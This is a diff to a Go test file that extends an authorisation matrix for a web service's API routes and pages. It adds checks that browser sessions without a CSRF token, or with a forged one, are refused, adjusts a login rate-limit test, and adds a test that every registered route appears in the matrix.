+		{"DELETE", "/api/v1/tokens/{id}", "", "", false, [10]int{unauth, hidden, none, hidden, none, hidden, none, unauth, unauth, denied}, w.ownerToken(t)},
+		{"GET", "/api/v1/openapi.json", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
+		{"GET", "/dashboard/live", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/agents", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/account", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"POST", "/account/tokens", form, "name=ci&team=alpha&role=viewer&expires_in=24h", false, [10]int{see, created, created, created, created, denied, denied, unauth, unauth, denied}, nil},
+		{"POST", "/account/tokens/{id}/revoke", "", "", false, [10]int{see, hidden, see, hidden, see, hidden, see, unauth, unauth, denied}, w.ownerToken(t)},
+		{"GET", "/account/teams/alpha", "", "", false, [10]int{see, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/account/teams/alpha/members", form, "user=authz-viewer&role=viewer", false, [10]int{see, denied, denied, denied, see, denied, see, unauth, unauth, denied}, nil},
+		{"GET", "/account/audit?team=alpha", "", "", false, [10]int{see, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
+		{"GET", "/account/audit", "", "", false, [10]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests?framework=authz-fw", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests/delete?ids={id}", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"POST", "/tests/delete", "application/x-www-form-urlencoded", "ids={id}", true, [10]int{see, denied, ok, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/compare", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/compare?ids={id},{id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/trends?framework=authz-fw&team=alpha", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/changepoints/{id}/accept", "", "", false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, cp},
+		{"POST", "/api/v1/frameworks/authz-fw/changepoints?team=alpha", "", "", false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/trends/changepoints/{id}/accept", "application/x-www-form-urlencoded", "back=/trends", false, [10]int{see, denied, denied, denied, see, hidden, see, unauth, unauth, denied}, cp},
+		{"POST", "/api/v1/me/password", "application/json", `{"current_password":"not the password here","new_password":"a long enough new password"}`, false, [10]int{unauth, 400, 400, 400, 400, 400, denied, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/users", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"PATCH", "/api/v1/users/authz-dummy", "application/json", `{"site_admin":false}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/users/authz-dummy/password", "application/json", `{}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/account/password", form, "current_password=not+the+password+here&new_password=a+long+enough+new+password&confirm_password=a+long+enough+new+password", false, [10]int{see, 400, 400, 400, 400, 400, denied, unauth, unauth, denied}, nil},
+		{"GET", "/account/users", "", "", false, [10]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/account/users", form, "name=authz-page-user-%s&password=a+long+enough+password", false, [10]int{see, denied, denied, denied, denied, denied, see, unauth, unauth, denied}, nil},
+		{"POST", "/account/users/authz-dummy", form, "site_admin=false", false, [10]int{see, denied, denied, denied, denied, denied, see, unauth, unauth, denied}, nil},
+		{"POST", "/account/users/authz-dummy/password", form, "", false, [10]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/account/agent-tokens", form, "agent=authz-page-agent", false, [10]int{see, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
 	}
+	session := browserSession(t, "authz-owner", "authz test password")
+	owner := slices.Index(principals, "owner")
 	cells := 0
 	for _, r := range rows {
-		for i, who := range principals {
+		// cell runs the row with one credential and checks the answer.
+		cell := func(who string, c credential, want int) {
+			t.Helper()
 			target := fmt.Sprint(id)
-			if r.fresh && r.want[i] < 300 {
+			if r.fresh && want < 300 {
 				target = fmt.Sprint(w.run(t, "owner"))
 			}
 			if r.prep != nil {
@@ -283,15 +413,46 @@ func TestAuthorizationMatrix(t *testing.T) {
 			if strings.Contains(body, "%s") {
 				body = fmt.Sprintf(body, who)
 			}
-			code, got := as(t, w.tokens[who], r.method, path, r.ctype, body)
-			require.Equal(t, r.want[i], code, "%s %s as %s: %s", r.method, path, who, got)
+			code, got := send(t, c, r.method, path, r.ctype, body)
+			require.Equal(t, want, code, "%s %s as %s: %s", r.method, path, who, got)
 			cells++
 		}
+		for i, who := range principals {
+			cell(who, credential{token: w.tokens[who]}, r.want[i])
+		}
+		// The owner signed in with a browser: reads as with the owner's
+		// token; a change without the session's CSRF token is refused, with
+		// it is as the owner's token. (Public routes take no session, and
+		// signing out is TestLoginSessionAndCSRF's.)
+		u, _ := url.Parse(r.path)
+		if authnPublic(u.Path) || u.Path == "/logout" {
+			continue
+		}
+		if r.method == http.MethodGet {
+			cell("session", session, r.want[owner])
+			continue
+		}
+		noCSRF := session
+		noCSRF.csrf = ""
+		cell("session-no-csrf", noCSRF, http.StatusForbidden)
+		forged := session
+		forged.csrf = "forged"
+		cell("session-forged-csrf", forged, http.StatusForbidden)
+		cell("session-csrf", session, r.want[owner])
 	}
-	t.Logf("authorisation matrix: %d endpoints and pages x %d principals = %d cells asserted", len(rows), len(principals), cells)
+	t.Logf("authorisation matrix: %d endpoints and pages x %d principals, and a signed-in browser with and without CSRF tokens: %d cells asserted",
+		len(rows), len(principals), cells)
+
+	// No hostile import changed the framework its owner runs.
+	var fwNow wire.FrameworkInfo
+	code, body := as(t, w.tokens["owner"], "GET", "/api/v1/frameworks/authz-fw?team=alpha", "", "")
+	require.Equal(t, http.StatusOK, code, body)
+	require.NoError(t, json.Unmarshal([]byte(body), &fwNow))
+	require.Equal(t, "#!/bin/sh\necho 'K, 1' > results.csv\n", fwNow.Execution.Script)
+	require.Equal(t, "authz-owner", fwNow.Owner)
 
 	// Lists show only one's own teams' things.
-	_, body := as(t, w.tokens["other-admin"], "GET", "/api/v1/tests?framework=authz-fw", "", "")
+	_, body = as(t, w.tokens["other-admin"], "GET", "/api/v1/tests?framework=authz-fw", "", "")
 	require.Contains(t, body, `"items": []`)
 	_, body = as(t, w.tokens["other-admin"], "GET", "/api/v1/frameworks", "", "")
 	require.NotContains(t, body, "authz-fw")
@@ -375,12 +536,14 @@ func TestLoginRateLimit(t *testing.T) {
 		resp.Body.Close()
 		return resp.StatusCode
 	}
+	first := time.Now()
 	for range 5 {
 		require.Equal(t, http.StatusUnauthorized, try())
 	}
-	start := time.Now()
 	require.Equal(t, http.StatusUnauthorized, try(), "the sixth is checked, after a wait")
-	require.Greater(t, time.Since(start), 8*time.Second)
+	// The five spent the name's budget; the sixth waited for one place to
+	// come back, 12 s after the first was spent (however slow the hashes).
+	require.Greater(t, time.Since(first), 11*time.Second)
 	codes := make(chan int, 3)
 	for range 3 {
 		go func() { codes <- try() }()
@@ -401,4 +564,68 @@ func TestLoginRateLimit(t *testing.T) {
 		resp.Body.Close()
 		require.Equal(t, http.StatusSeeOther, resp.StatusCode)
 	}
+}
+
+// routePattern finds the routes the server registers: mux.Handle,
+// HandleFunc or Route (with its policy) with "METHOD /path" (the ingest
+// paths are constants).
+var routePattern = regexp.MustCompile(`\.(?:Handle(?:Func)?|Route)\("([A-Z]+) (/[^"]*)"(\+ingest\.(\w+))?`)
+
+// matrixRow finds the matrix's rows: {"METHOD", "/path", ...
+var matrixRow = regexp.MustCompile(`\{"(GET|POST|PUT|PATCH|DELETE)", "([^"]*)"`)
+
+// Every route the server registers is a row of the authorisation matrix,
+// so a new endpoint cannot be added without saying who may use it.
+func TestAuthorizationMatrixCoversEveryRoute(t *testing.T) {
+	t.Parallel()
+	var routes [][2]string
+	ingestPaths := map[string]string{"SamplesPath": ingest.SamplesPath, "LogsPath": ingest.LogsPath, "ArtifactsPath": ingest.ArtifactsPath}
+	err := filepath.WalkDir("../ui", func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
+			return err
+		}
+		src, err := os.ReadFile(path)
+		for _, m := range routePattern.FindAllStringSubmatch(string(src), -1) {
+			p := m[2]
+			if m[4] != "" {
+				p = ingestPaths[m[4]]
+			}
+			if p != "/static/" && p != "/api/" {
+				routes = append(routes, [2]string{m[1], p})
+			}
+		}
+		return err
+	})
+	require.NoError(t, err)
+	require.Greater(t, len(routes), 60, "the routes were found")
+
+	src, err := os.ReadFile("authz_test.go")
+	require.NoError(t, err)
+	text := strings.ReplaceAll(string(src), `" + agentName + "`, agentName)
+	text = strings.ReplaceAll(text, `" + agentName`, agentName+`"`)
+	var rows [][2]string
+	for _, m := range matrixRow.FindAllStringSubmatch(text, -1) {
+		u, err := url.Parse(m[2])
+		require.NoError(t, err)
+		rows = append(rows, [2]string{m[1], u.Path})
+	}
+	for _, r := range routes {
+		segs := strings.Split(r[1], "/")
+		for i, seg := range segs {
+			switch {
+			case seg == "{$}":
+				segs[i] = ""
+			case strings.HasPrefix(seg, "{") && strings.HasSuffix(seg, "...}"):
+				segs[i] = ".+"
+			case strings.HasPrefix(seg, "{"):
+				segs[i] = "[^/]+"
+			default:
+				segs[i] = regexp.QuoteMeta(seg)
+			}
+		}
+		re := regexp.MustCompile("^" + strings.Join(segs, "/") + "$")
+		covered := slices.ContainsFunc(rows, func(row [2]string) bool { return row[0] == r[0] && re.MatchString(row[1]) })
+		assert.True(t, covered, "route %s %s has no row in the authorisation matrix", r[0], r[1])
+	}
+	t.Logf("%d routes, each a row of the authorisation matrix", len(routes))
 }
